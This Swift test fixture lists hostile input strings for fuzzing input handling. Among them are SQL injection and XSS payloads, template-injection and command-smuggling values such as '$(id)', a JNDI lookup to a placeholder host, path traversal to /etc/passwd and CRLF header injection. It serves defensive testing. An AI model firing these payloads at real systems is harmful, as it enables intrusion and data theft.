/// Texts that programs have stumbled over, so that S-257 is tried also where the large list is absent (`Vectors`).
enum HostileStrings {
    static let all = sql + markup + templates + paths + words + controls + unicode + lengths

    private static let sql = [
        "'", "\"", "\\", "%", "_", "?", "$1", "--", "'; DROP TABLE account; --", "' OR '1'='1", "\" OR \"\"=\"",
        "x' UNION SELECT password_hash FROM account --", "1; SELECT pg_sleep(5)", "\\'; SELECT 1 --",
    ]

    private static let markup = [
        "<script>alert(1)</script>", "\"><svg onload=alert(1)>", "<img src=x onerror=alert(1)>", "</title><b>",
        "javascript:alert(1)", "&lt;b&gt; &amp; &#0;", "<!--", "]]>",
    ]

    private static let templates = [
        "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "\\(7*7)", "%s%s%n", "%d", "${jndi:ldap://a.example/x}",
        "$(id)", "`id`", "; id", "| id", "{\"uid\":\"boss\"}", "[]", "{}",
    ]

    private static let paths = [
        "../../../../etc/passwd", "..\\..\\secret.key", "file:///etc/passwd", "/dev/null", "%2e%2e%2f", "%00", "%0d%0a",
        "//a.example", "CON", "~",
    ]

    /// What JavaScript, JSON or a form may take for something else than text.
    private static let words = [
        "null", "undefined", "true", "false", "NaN", "Infinity", "-0", "0x10", "1e400", "9223372036854775808",
        "__proto__", "constructor", "toString", "hasOwnProperty",
    ]

    private static let controls = [
        "", " ", " leading", "trailing ", "\t", "a\u{0}b", "\u{0}", "\r\nSet-Cookie: a=b", "a\nb",
        "\u{1b}[31mred\u{1b}[0m", "bell\u{7}", "back\u{8}\u{8}", "\u{7f}", "\u{85}", "\u{2028}", "\u{2029}",
    ]

    private static let unicode = [
        "田中さん", "مرحبا", "Ω≈ç√∫", "👩\u{200d}🚀", "🏳\u{fe0f}\u{200d}🌈", "🇺🇸🇷🇺", "e\u{301}", "\u{e9}",
        "Z\u{351}\u{36b}\u{343}a", "\u{301}", "\u{202e}gnirts", "a\u{200b}b", "\u{200b}", "b\u{feff}om",
        "\u{a0}\u{3000}", "\u{212a}elvin", "İstanbul ı", "ß ẞ", "ﬁﬂ", "ｆｕｌｌ", "𝒽𝑒𝓁𝓁𝑜", "раураl", "\u{fffd}\u{fffe}",
        "\u{e000}",
    ]

    private static let lengths = [
        String(repeating: "a", count: 101), String(repeating: "é", count: 300),
        String(repeating: "\u{301}", count: 300), String(repeating: "👩\u{200d}", count: 60),
        String(repeating: "x", count: 10_000),
    ]
}
